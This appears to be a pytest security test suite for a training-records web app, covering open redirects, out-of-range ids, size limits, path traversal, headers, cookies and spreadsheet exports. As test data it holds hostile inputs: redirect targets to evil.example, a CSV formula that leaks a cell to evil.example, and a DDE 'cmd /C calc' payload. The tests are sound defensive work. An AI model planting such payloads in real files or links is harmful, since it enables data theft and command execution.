"""What an attacker or a fuzzer tries: redirects off-site, numbers no id can have, figures too
small to book, sheet titles and formulas in exports."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from tests.integration.conftest import PASSWORD, assert_error
from tests.integration.test_archive_api import approved_record, attended_training

BIG = 2**63  # past every integer column: a 500 if it reached the database


def login(client, username: str, next_: str | None = None):
    query = {"next": next_} if next_ is not None else {}
    return client.post(
        "/login", query_string=query, data={"username": username, "password": PASSWORD}
    )


@pytest.mark.parametrize(
    "target",
    [
        "/\t/evil.example/",  # browsers drop the tab: //evil.example/
        "/\n/evil.example/",
        "/\r\nSet-Cookie: x=1",
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example/",
        "https://evil.example/",
        "javascript:alert(1)",
        "evil.example",
        "/ /evil.example/",
    ],
)
def test_login_never_redirects_off_site(client, make_user, target):
    make_user("ann")
    response = login(client, "ann", target)
    assert response.status_code == 302
    assert response.headers["Location"] == "/"


def test_login_follows_a_path_on_the_site(client, make_user):
    make_user("ann")
    response = login(client, "ann", "/archive?from=2026-01&to=2026-03")
    assert response.headers["Location"] == "/archive?from=2026-01&to=2026-03"


@pytest.mark.parametrize(
    "path",
    [
        f"/api/v1/trainings/{BIG}",
        f"/api/v1/records/{BIG}/evidence/1",
        f"/api/v1/reports/units/{BIG}",
        f"/api/v1/users/{2**31}",
        f"/api/v1/exams/{BIG}/attempts",
    ],
)
def test_an_id_no_row_can_have_is_404_in_api_paths(client, admin, path):
    assert_error(client.get(path, headers=admin), 404, "not_found")


@pytest.mark.parametrize(
    "query",
    [
        f"users?unit_id={BIG}",
        f"users?offset={BIG}",
        f"audit?offset={BIG}",
        f"archive?user_id={BIG}",
    ],
)
def test_an_id_no_row_can_have_is_400_in_api_queries(client, admin, query):
    assert_error(client.get(f"/api/v1/{query}", headers=admin), 400, "bad_payload")


@pytest.mark.parametrize(
    "body", [{"parent_id": BIG, "name": "x"}, {"parent_id": 2**31, "name": "x"}]
)
def test_an_id_no_row_can_have_is_400_in_api_bodies(client, admin, body):
    assert_error(client.post("/api/v1/units", json=body, headers=admin), 400, "bad_payload")


@pytest.mark.parametrize(
    "path",
    [
        f"/trainings/{BIG}",
        f"/archive?user_id={BIG}",
        f"/archive/export.csv?user_id={BIG}",
        f"/admin/reports?unit_id={BIG}",
        f"/admin/users?unit_id={BIG}",
        f"/admin/evaluations?target_id={BIG}",
    ],
)
def test_an_id_no_row_can_have_is_404_on_pages(client, make_user, path):
    make_user("root", role="admin")
    login(client, "root")
    assert client.get(path).status_code == 404


@pytest.mark.parametrize("query", [f"page={BIG}", "page=-1", f"year={BIG}"])
def test_page_numbers_and_years_out_of_range_are_ignored(client, make_user, query):
    make_user("root", role="admin")
    login(client, "root")
    assert client.get(f"/admin/users?{query}").status_code == 200
    assert client.get(f"/admin/audit?{query}").status_code == 200


def test_an_admin_opens_another_users_archive_page(client, make_user):
    make_user("root", role="admin")
    ann = make_user("ann")
    login(client, "root")
    page = client.get(f"/archive?user_id={ann}")
    assert page.status_code == 200
    assert "(ann)" in page.text
    assert f"user_id={ann}" in page.text  # the exports keep whose archive it is


def record(**changes):
    return {
        "kind": "self_study",
        "title": "Reading",
        "start_date": "2026-03-01",
        "end_date": "2026-03-02",
        "hours": 2,
        **changes,
    }


@pytest.mark.parametrize("hours", [1e-7, 1e-9, 5e-324, 0.0009])
def test_hours_too_small_to_book_are_refused(client, admin, learner, hours):
    assert_error(
        client.post("/api/v1/records", json=record(hours=hours), headers=learner),
        400,
        "bad_payload",
    )
    created = client.post("/api/v1/records", json=record(), headers=learner).json
    review = client.post(
        f"/api/v1/records/{created['id']}/review",
        json={"decision": "approve", "hours": hours},
        headers=admin,
    )
    assert_error(review, 400, "bad_payload")
    assert client.get(f"/api/v1/records/{created['id']}", headers=admin).json["status"] == "pending"


def test_the_smallest_hours_shown_are_booked(client, admin, learner):
    created = client.post("/api/v1/records", json=record(hours=0.001), headers=learner)
    assert created.status_code == 201, created.json
    assert created.json["hours"] == 0.001
    item = client.post(
        "/api/v1/courseware",
        json={"title": "Short", "kind": "video", "hours_limit": 0.001},
        headers=admin,
    )
    assert item.status_code == 201, item.json
    assert item.json["hours_limit"] == 0.001


UNIT = "R&D/QA [east]: *what?* \\ and a name longer than a sheet title may be"


def test_report_xlsx_of_a_unit_whose_name_has_sheet_title_characters(client, admin, make_user):
    unit = client.post("/api/v1/units", json={"name": UNIT}, headers=admin).json
    make_user("ann", unit=UNIT)
    login(client, "root")
    response = client.get(f"/admin/reports/export.xlsx?unit_id={unit['id']}&year=2026")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    title = book.sheetnames[0]  # the members' sheet, named after the unit
    assert len(title) <= 31
    assert not set(title) & set("[]:*?/\\")
    assert title.startswith("R&D_QA _east__ ")
    assert [row[0] for row in book.worksheets[0].iter_rows(values_only=True)][1:] == ["ann"]


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Certificate")'


@pytest.mark.parametrize("title", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"])
def test_exports_never_hold_a_live_formula(client, admin, learner, title):
    approved_record(client, learner, admin, "self_study", 2, "2026-03-02", title=title)
    ann = client.get("/api/v1/me", headers=learner).json["id"]
    login(client, "root")
    query = f"?from=2026-01&to=2026-12&user_id={ann}"
    text = client.get("/archive/export.csv" + query).data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + title in cells
    assert title not in cells
    book = load_workbook(io.BytesIO(client.get("/archive/export.xlsx" + query).data))
    (cell,) = [c for row in book.worksheets[1].iter_rows() for c in row if c.value == title]
    assert cell.data_type == "s"  # text, not a formula
    assert cell.quotePrefix


MIB = 1024**2


def multipart(values: dict) -> dict:
    """A multipart body in memory (the test client would spool a large one to a file it
    never closes)."""
    boundary, data = encode_multipart(values)
    return {"data": data, "content_type": f"multipart/form-data; boundary={boundary}"}


@pytest.mark.parametrize(
    ("path", "kwargs"),
    [
        ("/api/v1/auth/token", {"data": b"{" + b" " * (2 * MIB) + b"}"}),
        ("/api/v1/records", {"json": record(content="x" * (2 * MIB))}),
    ],
)
def test_bodies_beyond_the_limit_are_413(client, learner, path, kwargs):
    response = client.post(path, headers=learner, content_type="application/json", **kwargs)
    assert_error(response, 413, "too_large")


def test_a_form_beyond_the_limit_is_413_and_changes_nothing(client, make_user):
    make_user("ann")
    response = client.post("/login", data={"username": "ann", "password": "x" * (2 * MIB)})
    assert response.status_code == 413
    assert "text/html" in response.content_type
    assert client.get("/").status_code == 302  # not logged in


def test_the_limit_is_configurable(make_app, database_url, tmp_path):
    app = make_app(database_url, MAX_CONTENT_LENGTH=100)
    response = app.test_client().post("/api/v1/auth/token", json={"username": "x" * 200})
    assert_error(response, 413, "too_large")


def test_upload_routes_take_files_above_the_general_limit(client, learner):
    created = client.post("/api/v1/records", json=record(), headers=learner).json
    pdf = b"%PDF-1.4\n" + b"0" * (3 * MIB)
    response = client.post(
        f"/api/v1/records/{created['id']}/evidence",
        headers=learner,
        **multipart({"file": FileStorage(io.BytesIO(pdf), "certificate.pdf")}),
    )
    assert response.status_code == 201, response.json
    assert response.json["size"] == len(pdf)


def test_courseware_media_above_the_general_limit_uploads_on_its_page(app, client, make_user):
    make_user("root", role="admin")
    login(client, "root")
    video = FileStorage(io.BytesIO(b"\x00\x00\x00\x18ftypmp42" + b"\x00" * (3 * MIB)), "v.mp4")
    form = {"title": "Big", "kind": "video", "hours_limit": "1", "file": video}
    assert client.post("/admin/courseware", **multipart(form)).status_code == 302


@pytest.mark.parametrize("depth", [33, 1000, 100_000])
def test_deeply_nested_json_is_400(client, depth):
    body = '{"username": ' + "[" * depth + "]" * depth + ', "password": "x"}'
    response = client.post("/api/v1/auth/token", data=body, content_type="application/json")
    assert_error(response, 400, "bad_payload")


def test_json_as_deep_as_allowed_is_read(client, admin):
    body = {"title": "T", "subject": "public", "question_count": [[[[1]]]]}
    response = client.post("/api/v1/exams", json=body, headers=admin)
    assert_error(response, 400, "bad_payload")
    assert response.json["details"]  # validated field by field, not refused as unreadable


@pytest.mark.parametrize(
    "spelling",
    [
        "uploads/evidence/a.pdf",
        "./uploads/evidence/a.pdf",
        "%2e/uploads/evidence/a.pdf",
        "%2E/uploads/evidence/a.pdf",
        "/uploads/evidence/a.pdf",
        "x/../uploads/evidence/a.pdf",
        "x/%2e%2e/uploads/evidence/a.pdf",
        "uploads%2fevidence%2fa.pdf",
        "uploads/./evidence//a.pdf",
        "./uploads/../uploads/evidence/a.pdf",
    ],
)
def test_uploads_are_never_served_as_media_whatever_the_spelling(app, client, make_user, spelling):
    media = app.config["MEDIA_DIR"]
    secret = b"%PDF-1.4 someone's evidence"
    (folder := Path(media, "uploads", "evidence")).mkdir(parents=True)
    (folder / "a.pdf").write_bytes(secret)
    Path(media, "demo.webm").write_bytes(b"courseware")
    make_user("ann")
    login(client, "ann")
    with client.get("/media/demo.webm") as served:
        assert served.data == b"courseware"
    with client.get(f"/media/{spelling}", follow_redirects=True) as response:
        assert response.status_code == 404
        assert secret not in response.data


@pytest.mark.parametrize("path", ["/login", "/api/v1/openapi.json", "/static/app.css"])
def test_every_answer_carries_the_security_headers(client, path):
    with client.get(path) as response:
        headers = response.headers
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
        assert "script-src 'self'" in headers["Content-Security-Policy"]
        assert "unsafe-inline" not in headers["Content-Security-Policy"]
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "same-origin"


def cookies_of(response) -> dict[str, str]:
    return {c.split("=", 1)[0]: c for c in response.headers.getlist("Set-Cookie")}


@pytest.mark.parametrize(
    ("config", "secure"),
    [
        ({}, False),
        ({"PREFERRED_URL_SCHEME": "https"}, True),
        ({"SECURE_COOKIES": True}, True),
        ({"PREFERRED_URL_SCHEME": "https", "SECURE_COOKIES": False}, False),
    ],
)
def test_session_and_remember_cookies(make_app, database_url, config, secure):
    app = make_app(database_url, **config)
    from tracker.services.accounts import save_user

    with app.app_context():
        save_user("ann", PASSWORD, "learner", None)
    response = app.test_client().post(
        "/login", data={"username": "ann", "password": PASSWORD, "remember": "1"}
    )
    cookies = cookies_of(response)
    assert set(cookies) == {"session", "remember_token"}
    for cookie in cookies.values():
        assert "HttpOnly" in cookie
        assert "SameSite=Lax" in cookie
        assert ("Secure" in cookie) is secure


def test_text_with_nul_characters_is_400_and_saves_nothing(app, client, admin):
    body = {"title": "a\x00b", "kind": "video", "hours_limit": 1}
    response = client.post("/api/v1/courseware", json=body, headers=admin)
    assert_error(response, 400, "bad_payload")
    assert_error(client.get("/api/v1/users?q=%00", headers=admin), 400, "bad_payload")
    login_page = client.post("/login", data={"username": "ro\x00ot", "password": PASSWORD})
    assert login_page.status_code == 400
    assert client.get("/api/v1/courseware", headers=admin).json == []


def test_the_audit_page_shows_a_first_confirmation(client, admin, make_user):
    """Its entry has no earlier state (`old` is null): the page once answered 500."""
    ann = make_user("ann")
    attended_training(client, admin, ann, 1, "2026-03-02")
    login(client, "root")
    page = client.get("/admin/audit", headers={"Accept-Language": "en"})
    assert page.status_code == 200
    assert 'data-action="attendance.confirm"' in page.text
    assert "confirmed the attendance of <a" in page.text
